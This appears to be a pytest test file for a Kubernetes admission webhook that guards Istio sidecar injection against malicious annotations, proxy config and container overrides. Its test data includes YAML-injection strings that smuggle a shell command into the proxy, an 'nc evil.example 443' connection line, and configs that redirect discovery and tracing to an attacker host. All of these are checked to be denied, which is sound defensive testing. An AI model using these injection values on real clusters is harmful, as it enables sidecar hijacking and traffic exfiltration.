"""What a pod hands Istio's injector (annotation text, agent variables) and what it gets back
(the injected containers' entrypoints, and nothing of the pod's running before capture)."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.test_check_pods import (
    BANZAI,
    deployment,
    fields,
    injected_pod,
    judge,
    template,
)
from webhook.core.checks.injector_inputs import plain_text, renders_into_template

pytestmark = pytest.mark.unit

ANNOTATIONS = "spec.template.metadata.annotations"


# --- annotation values the template renders -------------------------------------------------


@pytest.mark.parametrize(
    ("key", "value"),
    [
        # a second line becomes a key of istio-proxy: the proxy's command
        ("sidecar.istio.io/logLevel", 'info\n    command: ["sh", "-c", "nc evil.example 443"]'),
        ("sidecar.istio.io/componentLogLevel", "misc:error\n    command: [sh]"),
        # closes the quoted argument of istio-init and adds one of its own
        ("traffic.sidecar.istio.io/includeOutboundPorts", '80"\n    command: ["true"]\n  - "'),
        ("sidecar.istio.io/agentLogLevel", 'default:info"'),
        ("sidecar.istio.io/proxyImageType", 'distroless"\n    command: [sh]'),
        ("readiness.status.sidecar.istio.io/periodSeconds", "5\n    command: [sh]"),
        ("status.sidecar.istio.io/port", "15020\\"),
        ("traffic.sidecar.istio.io/kubevirtInterfaces", "net1'"),
        ("istio.io/reroute-virtual-interfaces", "eth1\r"),
        ("k8s.v1.cni.cncf.io/networks", "macvlan', sidecar.istio.io/status: 'x"),
        ("resource.opentelemetry.io/service.name", 'shop"'),
        # YAML 1.1 breaks lines at NEL and the Unicode separators too
        ("sidecar.istio.io/logLevel", "info\u2028    command: [sh]"),
        ("sidecar.istio.io/logLevel", "info\x85    command: [sh]"),
        ("sidecar.istio.io/someFutureKnob", "a\nb"),
        ("sidecar.istio.io/proxyImageType", "debug-evil"),
        ("apm.datadoghq.com/env", '{"DD_ENV": "prod\\"\\n    command: [sh]"}'),
        ("apm.datadoghq.com/env", '{"DD_ENV\\n": "prod"}'),
        ("apm.datadoghq.com/env", "not json"),
        ("apm.datadoghq.com/env", '["DD_ENV"]'),
    ],
)
def test_annotation_text_that_adds_template_fields_is_denied(key: str, value: str) -> None:
    manifest = deployment()
    template(manifest)["metadata"]["annotations"][key] = value
    decision = judge(manifest)
    assert not decision.allowed
    assert fields(decision) == [f"{ANNOTATIONS}[{key}]"]


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("sidecar.istio.io/logLevel", "debug"),
        ("sidecar.istio.io/componentLogLevel", "misc:error,rbac:debug,upstream:trace"),
        ("sidecar.istio.io/proxyCPU", "100m"),
        ("sidecar.istio.io/proxyMemoryLimit", "1Gi"),
        ("sidecar.istio.io/proxyImageType", "distroless"),
        ("sidecar.istio.io/nativeSidecar", "true"),
        ("traffic.sidecar.istio.io/includeInboundPorts", "*"),
        ("traffic.sidecar.istio.io/excludeInboundPorts", "8080,9090"),
        ("readiness.status.sidecar.istio.io/applicationPorts", "8080"),
        ("status.sidecar.istio.io/port", "15020"),
        ("resource.opentelemetry.io/service.name", "shop-frontend"),
        # read by Go code, never rendered: JSON and regular expressions keep their characters
        ("sidecar.istio.io/statsHistogramBuckets", '{"istiocustom":[1,5,10,50]}'),
        ("sidecar.istio.io/statsInclusionRegexps", "http\\.[a-z]+\\.rq_total"),
        ("apm.datadoghq.com/env", '{"DD_ENV": "prod", "DD_SERVICE": "shop"}'),
        ("k8s.v1.cni.cncf.io/networks", '[{"name": "macvlan-conf"}]'),
        # not read by the injector at all
        ("example.com/notes", 'free text "with quotes"\nand lines'),
    ],
)
def test_plain_annotation_values_are_allowed(key: str, value: str) -> None:
    manifest = deployment()
    template(manifest)["metadata"]["annotations"][key] = value
    decision = judge(manifest)
    assert decision.allowed, decision.reason


def test_the_template_rule_also_holds_on_the_injected_pod() -> None:
    pod = injected_pod()
    pod["metadata"]["annotations"]["sidecar.istio.io/logLevel"] = "info\n    command: [sh]"
    decision = judge(pod)
    assert fields(decision) == ["metadata.annotations[sidecar.istio.io/logLevel]"]


def test_an_annotation_refused_whatever_its_value_is_reported_once() -> None:
    manifest = deployment()
    volume = '[{"name": "x", "hostPath": {"path": "/"}}]'
    template(manifest)["metadata"]["annotations"]["sidecar.istio.io/userVolume"] = volume
    assert fields(judge(manifest)) == [f"{ANNOTATIONS}[sidecar.istio.io/userVolume]"]


@given(st.text(max_size=40))
def test_plain_text_holds_no_character_that_ends_or_escapes_a_scalar(value: str) -> None:
    unsafe = set("\"'\\") | {chr(c) for c in range(0x20)} | {"\x7f"}
    expected = all(ch not in unsafe and ord(ch) < 0x80 for ch in value)
    assert plain_text(value) is expected


def test_which_annotations_reach_the_template() -> None:
    assert renders_into_template("sidecar.istio.io/logLevel")
    assert renders_into_template("traffic.sidecar.istio.io/excludeOutboundPorts")
    assert renders_into_template("k8s.v1.cni.cncf.io/networks")
    assert not renders_into_template("sidecar.istio.io/status")
    assert not renders_into_template("sidecar.istio.io/statsHistogramBuckets")
    assert not renders_into_template("proxy.istio.io/config")
    assert not renders_into_template("app.kubernetes.io/name")


# --- agent variables (proxy.istio.io/config and ProxyConfig) --------------------------------


@pytest.mark.parametrize(
    "metadata",
    [
        {"MINIMUM_DRAIN_DURATION": '5s"\n    command: [sh]'},
        {"MINIMUM_DRAIN_DURATION": "five seconds"},
        {"MINIMUM_DRAIN_DURATION": 5},
        {"EXIT_ON_ZERO_ACTIVE_CONNECTIONS": 'true"\n    command: [sh]'},
        {"EXIT_ON_ZERO_ACTIVE_CONNECTIONS": "yes"},
    ],
)
def test_agent_variables_outside_their_grammar_are_denied(metadata: dict[str, Any]) -> None:
    manifest = deployment()
    config = json.dumps({"proxyMetadata": metadata})
    template(manifest)["metadata"]["annotations"]["proxy.istio.io/config"] = config
    decision = judge(manifest)
    assert fields(decision) == [f"{ANNOTATIONS}[proxy.istio.io/config]"]


@pytest.mark.parametrize(
    "metadata",
    [
        {"MINIMUM_DRAIN_DURATION": "5s"},
        {"MINIMUM_DRAIN_DURATION": "1m30s"},
        {"MINIMUM_DRAIN_DURATION": "1.5s"},
        {"EXIT_ON_ZERO_ACTIVE_CONNECTIONS": "false"},
    ],
)
def test_agent_variables_within_their_grammar_are_allowed(metadata: dict[str, Any]) -> None:
    manifest = deployment()
    config = json.dumps({"proxyMetadata": metadata})
    template(manifest)["metadata"]["annotations"]["proxy.istio.io/config"] = config
    decision = judge(manifest)
    assert decision.allowed, decision.reason


def test_a_proxyconfig_resource_is_held_to_the_same_grammar() -> None:
    def proxy_config(value: str) -> dict[str, Any]:
        return {
            "apiVersion": "networking.istio.io/v1beta1",
            "kind": "ProxyConfig",
            "metadata": {"name": "drain", "namespace": "test-app"},
            "spec": {"environmentVariables": {"MINIMUM_DRAIN_DURATION": value}},
        }

    assert judge(proxy_config("10s")).allowed
    refused = judge(proxy_config('10s"\n    command: [sh]'))
    assert fields(refused) == ["spec.environmentVariables.MINIMUM_DRAIN_DURATION"]


@pytest.mark.parametrize(
    "config",
    [
        # protobuf's JSON parser takes proto names as well as JSON names
        "tracing: {sampling: 10, custom_tags: {team: {literal: {value: shop}}}}",
        "proxy_metadata: {ISTIO_META_DNS_CAPTURE: 'true'}",
        "hold_application_until_proxy_starts: true",
        "termination_drain_duration: 30s",
        "image: {image_type: distroless}",
        "proxyHeaders: {metadataExchangeHeaders: {mode: IN_MESH}, server: {disabled: true}}",
        "gatewayTopology: {numTrustedProxies: 1}",
        "parentShutdownDuration: 60s",
    ],
)
def test_proxy_config_fields_that_tune_nothing_of_egress_are_allowed(config: str) -> None:
    manifest = deployment()
    template(manifest)["metadata"]["annotations"]["proxy.istio.io/config"] = config
    decision = judge(manifest)
    assert decision.allowed, decision.reason


@pytest.mark.parametrize(
    "config",
    [
        "interception_mode: NONE",
        "discovery_address: evil.example:15012",
        "proxy_metadata: {PILOT_ADDRESS: 'evil.example:15012'}",
        "tracing: {zipkin: {address: collector.evil.example:9411}}",
        "image: {image_type: custom}",
    ],
)
def test_proto_names_of_unsafe_fields_are_denied(config: str) -> None:
    manifest = deployment()
    template(manifest)["metadata"]["annotations"]["proxy.istio.io/config"] = config
    decision = judge(manifest)
    assert fields(decision) == [f"{ANNOTATIONS}[proxy.istio.io/config]"]


# --- what the injector hands back -----------------------------------------------------------


def _container(pod: dict[str, Any], name: str) -> dict[str, Any]:
    spec = pod["spec"]
    found: dict[str, Any] = next(
        c for c in spec["initContainers"] + spec["containers"] if c["name"] == name
    )
    return found


@pytest.mark.parametrize(
    ("name", "change", "field"),
    [
        ("istio-proxy", {"command": ["sh", "-c", "nc evil.example 443"]}, "command"),
        ("istio-proxy", {"args": ["sh", "-c", "nc evil.example 443"]}, "args"),
        ("istio-proxy", {"args": "proxy sidecar"}, "args"),
        ("istio-init", {"command": ["true"]}, "command"),
        ("istio-init", {"args": ["true"]}, "args"),
    ],
)
def test_injected_containers_keep_the_templates_entrypoint(
    name: str, change: dict[str, Any], field: str
) -> None:
    pod = injected_pod()
    _container(pod, name).update(change)
    decision = judge(pod)
    assert not decision.allowed
    where = "initContainers" if name == "istio-init" else "containers"
    index = next(i for i, c in enumerate(pod["spec"][where]) if c["name"] == name)
    assert fields(decision) == [f"spec.{where}[{index}].{field}"]


def test_native_sidecar_proxy_with_its_arguments_is_allowed() -> None:
    pod = injected_pod()
    proxy = _container(pod, "istio-proxy")
    pod["spec"]["containers"].remove(proxy)
    pod["spec"]["initContainers"].append({**proxy, "restartPolicy": "Always"})
    decision = judge(pod)
    assert decision.allowed, decision.reason


def test_a_tenant_sidecar_started_before_istio_init_is_denied() -> None:
    # sidecar.istio.io/nativeSidecar: "false" puts istio-init last, after the pod's own
    pod = injected_pod()
    tunnel = {"name": "tunnel", "image": "alpine", "restartPolicy": "Always"}
    pod["spec"]["initContainers"].insert(0, tunnel)
    decision = judge(pod)
    assert fields(decision) == ["spec.initContainers[0].restartPolicy"]


def test_tenant_containers_that_start_after_capture_are_allowed() -> None:
    pod = injected_pod()
    init = pod["spec"]["initContainers"]
    # a one-shot init container before istio-init ends before capture; a sidecar after it
    # starts inside capture
    init.insert(0, {"name": "migrate", "image": "alpine"})
    init.append({"name": "log-shipper", "image": "alpine", "restartPolicy": "Always"})
    decision = judge(pod)
    assert decision.allowed, decision.reason


def test_without_istio_init_the_cni_has_captured_before_any_container() -> None:
    pod = injected_pod()
    status = json.loads(pod["metadata"]["annotations"]["sidecar.istio.io/status"])
    status["initContainers"] = ["istio-validation"]
    pod["metadata"]["annotations"]["sidecar.istio.io/status"] = json.dumps(status)
    init = pod["spec"]["initContainers"]
    istio_init = next(c for c in init if c["name"] == "istio-init")
    istio_init.update(
        name="istio-validation",
        args=["istio-iptables", "--run-validation", "--skip-rule-apply"],
        securityContext={"runAsUser": 1337, "runAsGroup": 1337, "runAsNonRoot": True},
    )
    init.remove(istio_init)
    init.insert(0, istio_init)
    init.insert(1, {"name": "tunnel", "image": "alpine", "restartPolicy": "Always"})
    decision = judge(pod)
    assert decision.allowed, decision.reason


def test_templates_are_not_held_to_injected_entrypoints() -> None:
    # a template never carries the injector's containers: a container of that name there is
    # refused by name, not by entrypoint
    manifest = deployment()
    containers = template(manifest)["spec"]["containers"]
    containers.append({"name": "istio-proxy", "image": "x", "command": ["sh"]})
    assert fields(judge(manifest)) == [f"spec.template.spec.containers[{len(containers) - 1}].name"]


def test_the_entrypoint_rule_leaves_the_policy_alone() -> None:
    before = copy.deepcopy(BANZAI)
    judge(injected_pod())
    assert before == BANZAI


# --- the injector's volumes ------------------------------------------------------------------


def _with_injected_volumes(pod: dict[str, Any]) -> dict[str, Any]:
    status = json.loads(pod["metadata"]["annotations"]["sidecar.istio.io/status"])
    pod["spec"].setdefault("volumes", []).extend(
        {"name": name, "emptyDir": {}} for name in status["volumes"]
    )
    proxy = _container(pod, "istio-proxy")
    proxy["volumeMounts"] = [{"name": "istio-envoy", "mountPath": "/etc/istio/proxy"}]
    return pod


@pytest.mark.parametrize("where", ["containers", "initContainers", "ephemeralContainers"])
def test_a_pod_container_mounting_the_proxys_volume_is_denied(where: str) -> None:
    pod = _with_injected_volumes(injected_pod())
    mount = {"name": "istio-envoy", "mountPath": "/proxy"}
    pod["spec"].setdefault(where, []).append(
        {"name": "peek", "image": "x", "volumeMounts": [mount]}
    )
    decision = judge(pod)
    index = len(pod["spec"][where]) - 1
    assert fields(decision) == [f"spec.{where}[{index}].volumeMounts[0].name"]


def test_the_proxy_mounting_its_own_volumes_is_allowed() -> None:
    decision = judge(_with_injected_volumes(injected_pod()))
    assert decision.allowed, decision.reason


@pytest.mark.parametrize("name", ["istio-envoy", "workload-socket", "istio-token"])
def test_a_template_volume_named_as_the_injectors_is_denied(name: str) -> None:
    manifest = deployment()
    template(manifest)["spec"]["volumes"] = [{"name": name, "emptyDir": {}}]
    assert fields(judge(manifest)) == ["spec.template.spec.volumes[0].name"]


def test_template_volumes_of_the_pods_own_are_allowed() -> None:
    manifest = deployment()
    template(manifest)["spec"]["volumes"] = [{"name": "cache", "emptyDir": {}}]
    decision = judge(manifest)
    assert decision.allowed, decision.reason
